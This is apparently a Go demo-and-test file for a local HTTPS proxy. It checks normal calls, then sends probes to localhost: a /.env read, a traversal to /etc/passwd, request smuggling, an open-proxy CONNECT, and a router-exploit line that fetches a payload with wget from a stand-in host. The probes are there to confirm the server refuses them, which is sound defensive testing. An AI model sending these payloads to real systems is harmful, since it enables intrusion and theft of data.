package app

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"time"
)

// demoTarget is the running demo as its callers see it.
type demoTarget struct {
	http, https string // host:port
	roots       *x509.CertPool
	client      *http.Client // verifies, speaks h2
}

func newDemoTarget(d *demo) (*demoTarget, error) {
	t := &demoTarget{http: d.app.Addrs("http")[0], https: d.app.Addrs("https")[0]}
	pem, err := os.ReadFile(d.root())
	if err != nil {
		return nil, fmt.Errorf("demo: the local authority's root: %w", err)
	}
	t.roots = x509.NewCertPool()
	if !t.roots.AppendCertsFromPEM(pem) {
		return nil, fmt.Errorf("demo: %s holds no certificate", d.root())
	}
	t.client = &http.Client{
		Timeout:       10 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
		Transport: &http.Transport{
			ForceAttemptHTTP2: true,
			TLSClientConfig:   &tls.Config{RootCAs: t.roots},
			// localhost is where we listen, whatever the resolver says.
			DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
				return new(net.Dialer).DialContext(ctx, "tcp", "127.0.0.1:"+portOf(addr))
			},
		},
	}
	return t, nil
}

func (t *demoTarget) close() { t.client.CloseIdleConnections() }

func portOf(addr string) string {
	_, port, _ := net.SplitHostPort(addr) // our own addresses have one
	return port
}

// demoStep is one line of the demo's table. do returns what became of it and
// an error when that is not what it should be.
type demoStep struct {
	what, sent string
	do         func(ctx context.Context, t *demoTarget) (string, error)
}

var demoCalls = []demoStep{ // read only
	{"a GET", "GET /api/hello (h2)", func(ctx context.Context, t *demoTarget) (string, error) {
		return t.call(ctx, http.MethodGet, "/api/hello", "")
	}},
	{"a POST", "POST /api/echo, 17 bytes of JSON", func(ctx context.Context, t *demoTarget) (string, error) {
		return t.call(ctx, http.MethodPost, "/api/echo", `{"from":"lambda"}`)
	}},
	{"a large upload", "POST /api/count, 4 MiB", func(ctx context.Context, t *demoTarget) (string, error) {
		return t.call(ctx, http.MethodPost, "/api/count", strings.Repeat("x", 4<<20))
	}},
	{"an event stream", "GET /events", demoEvents},
	{"a browser on port 80", "GET http://localhost/api/hello", demoRedirect},
}

// call asks over verified TLS and wants the backend's 200.
func (t *demoTarget) call(ctx context.Context, method, path, body string) (string, error) {
	req, err := http.NewRequestWithContext(ctx, method, "https://localhost:"+portOf(t.https)+path, strings.NewReader(body))
	if err != nil {
		return "", err
	}
	res, err := t.client.Do(req)
	if err != nil {
		return "", err
	}
	defer res.Body.Close()
	got, err := io.ReadAll(io.LimitReader(res.Body, 1<<16))
	if err != nil {
		return "", err
	}
	became := fmt.Sprintf("%d from the backend, %s, %s", res.StatusCode, res.Proto, tls.VersionName(res.TLS.Version))
	switch {
	case res.StatusCode != http.StatusOK:
		return became, errors.New("want 200")
	case res.Header.Get(sampleHeader) == "":
		return became, errors.New("the answer is not the backend's")
	case path == "/api/echo" && string(got) != body:
		return became, errors.New("the body came back changed")
	case path == "/api/count" && strings.TrimSpace(string(got)) != fmt.Sprint(len(body)):
		return became, fmt.Errorf("the backend counted %s bytes", got)
	}
	return became, nil
}

// demoEvents wants the first event while the backend still sends.
func demoEvents(ctx context.Context, t *demoTarget) (string, error) {
	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://localhost:"+portOf(t.https)+"/events", nil)
	if err != nil {
		return "", err
	}
	res, err := t.client.Do(req)
	if err != nil {
		return "", err
	}
	defer res.Body.Close()
	line, err := bufio.NewReader(res.Body).ReadString('\n')
	if err != nil {
		return "", err
	}
	if res.StatusCode != http.StatusOK || !strings.HasPrefix(line, "data: ") || res.Header.Get(sampleHeader) == "" {
		return fmt.Sprintf("%d %q", res.StatusCode, line), errors.New("want 200 and an event")
	}
	return "200 from the backend, first event at once", nil
}

// demoRedirect wants the way to https and follows it.
func demoRedirect(ctx context.Context, t *demoTarget) (string, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://localhost:"+portOf(t.http)+"/api/hello", nil)
	if err != nil {
		return "", err
	}
	res, err := t.client.Do(req)
	if err != nil {
		return "", err
	}
	_ = res.Body.Close()
	want := "https://localhost:" + portOf(t.https) + "/api/hello"
	if res.StatusCode != http.StatusPermanentRedirect || res.Header.Get("Location") != want {
		return fmt.Sprintf("%d to %q", res.StatusCode, res.Header.Get("Location")), fmt.Errorf("want 308 to %s", want)
	}
	became, err := t.call(ctx, http.MethodGet, "/api/hello", "")
	return "308 to https, then " + became, err
}

var demoProbes = []demoStep{ // read only
	{"secrets", "GET /.env", demoHTTPS("localhost", "GET /.env HTTP/1.1\r\nHost: localhost\r\n\r\n")},
	{"another host", "GET / with Host: 203.0.113.7", demoHTTPS("localhost", "GET / HTTP/1.1\r\nHost: 203.0.113.7\r\n\r\n")},
	{"path tricks", "GET /api/..%2f..%2fetc/passwd", demoHTTPS("localhost", "GET /api/..%2f..%2fetc/passwd HTTP/1.1\r\nHost: localhost\r\n\r\n")},
	{"smuggling", "POST with two lengths", demoHTTPS("localhost", "POST /api/echo HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")},
	{"an open proxy", "CONNECT example.org:443", demoHTTP("CONNECT example.org:443 HTTP/1.1\r\nHost: example.org:443\r\n\r\n")},
	{"the bare address", "GET http://127.0.0.1/", demoHTTP("GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")},
	{"a router exploit", "GET /shell?cd+/tmp;…", demoHTTP("GET /shell?cd+/tmp;wget+203.0.113.7/x HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")},
	{"TLS without a name", "ClientHello, no server name", demoHello("")},
	{"TLS for another name", "ClientHello, server name evil.example", demoHello("evil.example")},
	{"HTTP on the TLS port", "GET / in the clear", func(ctx context.Context, t *demoTarget) (string, error) {
		return demoRaw(ctx, t.https, nil, "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
	}},
	{"TLS on the HTTP port", "ClientHello", func(ctx context.Context, t *demoTarget) (string, error) {
		return demoRaw(ctx, t.http, nil, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
	}},
	{"remote desktop", "RDP connection request", func(ctx context.Context, t *demoTarget) (string, error) {
		return demoRaw(ctx, t.https, nil, "\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00")
	}},
}

func demoHTTPS(name, request string) func(context.Context, *demoTarget) (string, error) {
	return func(ctx context.Context, t *demoTarget) (string, error) {
		return demoRaw(ctx, t.https, &tls.Config{ServerName: name, RootCAs: t.roots}, request)
	}
}

func demoHTTP(request string) func(context.Context, *demoTarget) (string, error) {
	return func(ctx context.Context, t *demoTarget) (string, error) {
		return demoRaw(ctx, t.http, nil, request)
	}
}

// demoHello wants the handshake refused before a certificate is shown.
func demoHello(name string) func(context.Context, *demoTarget) (string, error) {
	return func(ctx context.Context, t *demoTarget) (string, error) {
		shown := false
		c := &tls.Config{ServerName: name, InsecureSkipVerify: true, VerifyConnection: func(tls.ConnectionState) error { shown = true; return nil }}
		d := tls.Dialer{NetDialer: &net.Dialer{Timeout: 5 * time.Second}, Config: c}
		ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
		defer cancel()
		conn, err := d.DialContext(ctx, "tcp", t.https)
		if err == nil {
			_ = conn.Close()
		}
		if err == nil || shown {
			return "a certificate was shown", errors.New("want none")
		}
		return "handshake refused, no certificate shown", nil
	}
}

// demoRaw sends bytes and wants either nothing back or a 4xx and the end.
func demoRaw(ctx context.Context, addr string, c *tls.Config, send string) (string, error) {
	conn, err := (&net.Dialer{Timeout: 5 * time.Second}).DialContext(ctx, "tcp", addr)
	if err != nil {
		return "", err
	}
	if c != nil {
		conn = tls.Client(conn, c)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := io.WriteString(conn, send); err != nil && c != nil {
		return "", err // the handshake must work: the probe is inside
	}
	got, err := io.ReadAll(io.LimitReader(conn, 1<<16))
	var timeout net.Error
	switch {
	case errors.As(err, &timeout) && timeout.Timeout():
		return "left open", errors.New("want it closed")
	case len(got) == 0:
		return "connection closed, nothing said", nil
	case bytes.HasPrefix(got, []byte("HTTP/1.1 4")):
		line, _, _ := strings.Cut(string(got), "\r\n")
		return strings.TrimPrefix(line, "HTTP/1.1 ") + ", connection closed", nil
	}
	return fmt.Sprintf("%.40q", got), errors.New("want a refusal")
}
